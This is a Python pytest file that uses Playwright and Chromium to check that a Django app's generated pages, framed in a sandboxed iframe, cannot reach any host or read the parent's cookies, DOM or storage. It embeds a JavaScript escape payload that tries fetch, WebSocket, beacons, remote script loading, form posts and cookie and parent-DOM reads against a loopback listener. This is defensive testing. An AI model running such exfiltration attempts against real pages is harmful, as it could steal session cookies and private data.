"""In real Chromium, a served page can reach no host and read nothing of the app that frames it."""

from __future__ import annotations

import socket
import threading
import time
from contextlib import contextmanager

import pytest
from django.test.testcases import LiveServerThread

from explainer.models import Generation, PageVersion, Thread
from explainer.pages.static import CorsStaticFilesHandler
from explainer.render_check.browser import launch_options
from explainer.selectors.generation import page_url

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

APP_SECRET = "app-secret-in-the-dom"
COOKIE_SECRET = "app-cookie-secret"

# Every way out we could think of; each result goes back to the parent by postMessage, the one
# channel the sandbox leaves open, so the test knows the script really ran.
ATTACK = """<!doctype html>
<html><body>
<form id="f" method="post" action="LISTENER/form"><input name="a" value="1"></form>
<script>
const L = "LISTENER";
const report = {};
function attempt(name, fn) {
  try {
    const r = fn();
    report[name] = "called";
    if (r && typeof r.then === "function") r.then(() => { report[name] = "resolved"; }, (e) => { report[name] = "rejected"; });
  } catch (e) { report[name] = "threw " + e.name; }
}
attempt("fetch", () => fetch(L + "/fetch", {mode: "no-cors"}));
attempt("xhr", () => { const x = new XMLHttpRequest(); x.open("POST", L + "/xhr"); x.send("x"); });
attempt("websocket", () => new WebSocket(L.replace("http", "ws") + "/ws"));
attempt("image", () => { const i = new Image(); i.src = L + "/beacon.gif"; document.body.append(i); });
attempt("sendBeacon", () => navigator.sendBeacon(L + "/sendbeacon", "x"));
attempt("eventsource", () => new EventSource(L + "/events"));
attempt("script", () => { const s = document.createElement("script"); s.src = L + "/evil.js"; document.body.append(s); });
attempt("css", () => { const d = document.createElement("div"); d.style.cssText = `width:9px;height:9px;background:url(${L}/bg.png)`; document.body.append(d); });
attempt("popup", () => window.open(L + "/popup"));
attempt("cookie", () => { report.cookieValue = String(document.cookie); });
attempt("parent", () => { report.parentText = parent.document.getElementById("secret").textContent; });
attempt("storage", () => localStorage.getItem("x"));
setTimeout(() => {
  parent.postMessage({source: "attack", report: JSON.stringify(report)}, "*");
  document.getElementById("f").submit();
  attempt("navigateTop", () => { top.location = L + "/top"; });
}, 400);
</script>
</body></html>
"""


class Listener:
    """A loopback TCP server that counts every connection made to it."""

    def __init__(self) -> None:
        self.hits: list[bytes] = []
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.url = f"http://127.0.0.1:{self.sock.getsockname()[1]}"
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            with conn:
                conn.settimeout(1)
                try:
                    self.hits.append(conn.recv(200).split(b"\r\n", 1)[0])
                    conn.sendall(b"HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\nContent-Length: 2\r\n\r\nok")
                except OSError:
                    self.hits.append(b"(connection)")

    def close(self) -> None:
        self.sock.close()


@pytest.fixture
def listener():
    server = Listener()
    yield server
    server.close()


@pytest.fixture
def app_server(transactional_db):
    """The Django app over real HTTP, static/ served with the CORS header as in production."""
    thread = LiveServerThread("127.0.0.1", CorsStaticFilesHandler, port=0)
    thread.daemon = True
    thread.start()
    thread.is_ready.wait()
    if thread.error:
        raise thread.error
    yield f"http://127.0.0.1:{thread.port}"
    thread.terminate()


@contextmanager
def chromium():
    # Started inside the test, after its rows are written: the sync API runs an event loop in this
    # thread, and Django refuses ORM calls while one runs.
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        browser = p.chromium.launch(**launch_options())
        try:
            yield browser
        finally:
            browser.close()


def stored_page(html: str) -> PageVersion:
    thread = Thread.objects.create()
    generation = Generation.objects.create(thread=thread, question="Can you escape?")
    return PageVersion.objects.create(thread=thread, generation=generation, version=1, html=html)


def open_in_app(browser, app: str, page_path: str):
    """An app page holding a cookie and a secret, framing `page_path` as the learner UI does."""
    context = browser.new_context()
    context.add_cookies([{"name": "sessionid", "value": COOKIE_SECRET, "url": app},
                         {"name": "visible", "value": COOKIE_SECRET, "url": app}])
    parent = f"""<!doctype html><div id="secret">{APP_SECRET}</div>
    <script>addEventListener("message", (e) => {{ if (e.data && e.data.source === "attack") window.got = e.data.report; }});</script>
    <iframe sandbox="allow-scripts" src="{page_path}" width="400" height="300"></iframe>"""
    tab = context.new_page()
    tab.route(f"{app}/__app__", lambda route: route.fulfill(status=200, content_type="text/html", body=parent))
    tab.goto(f"{app}/__app__")
    return context, tab


def wait_for_report(tab) -> dict:
    import json

    deadline = time.monotonic() + 8
    while time.monotonic() < deadline:
        got = tab.evaluate("() => window.got || null")
        if got:
            return json.loads(got)
        time.sleep(0.1)
    raise AssertionError("the sandboxed page never reported back: its script did not run")


def test_a_sandboxed_page_reaches_no_host_and_reads_no_app_cookie_or_parent_dom(app_server, listener):
    page = stored_page(ATTACK.replace("LISTENER", listener.url))
    with chromium() as browser:
        context, tab = open_in_app(browser, app_server, page_url(page))
        report = wait_for_report(tab)
        time.sleep(1.0)  # the form post and top navigation come after the report; give them time to land
        context.close()

    assert listener.hits == []
    assert {"fetch", "xhr", "websocket", "image", "sendBeacon", "script", "css"} <= report.keys()
    assert COOKIE_SECRET not in report.get("cookieValue", "")
    assert report["cookie"].startswith("threw")  # an opaque origin has no cookie jar at all
    assert APP_SECRET not in report.get("parentText", "")
    assert report["parent"] == "threw SecurityError"
    assert report["storage"] == "threw SecurityError"


def test_the_same_page_without_the_sandbox_does_reach_the_listener(app_server, listener):
    # The control: the listener and the attack work, so the zero above is the policy's doing.
    html = ATTACK.replace("LISTENER", listener.url)
    with chromium() as browser:
        tab = browser.new_page()
        tab.route(f"{app_server}/__plain__", lambda r: r.fulfill(status=200, content_type="text/html", body=html))
        tab.goto(f"{app_server}/__plain__")
        deadline = time.monotonic() + 5
        while len(listener.hits) < 4 and time.monotonic() < deadline:
            time.sleep(0.1)
    assert len(listener.hits) >= 4


def test_a_kit_page_served_sandboxed_in_the_app_frame_loads_its_modules_and_gets_ready(app_server):
    from tests.explainer.render_check.pages import kit_page

    page = stored_page(kit_page())
    with chromium() as browser:
        context, tab = open_in_app(browser, app_server, page_url(page))
        console = []
        tab.on("console", lambda message: console.append(message.text))
        tab.reload()  # listening from the first byte
        frame = tab.frame_locator("iframe")
        state = None
        deadline = time.monotonic() + 10
        while time.monotonic() < deadline:
            state = frame.locator("html").get_attribute("data-kit-state")
            if state in {"ready", "error"}:
                break
            time.sleep(0.1)
        context.close()
    assert state == "ready"
    # The page's headers name only features this browser knows (an unknown one is a warning on every page).
    assert not [line for line in console if "Permissions-Policy" in line], console
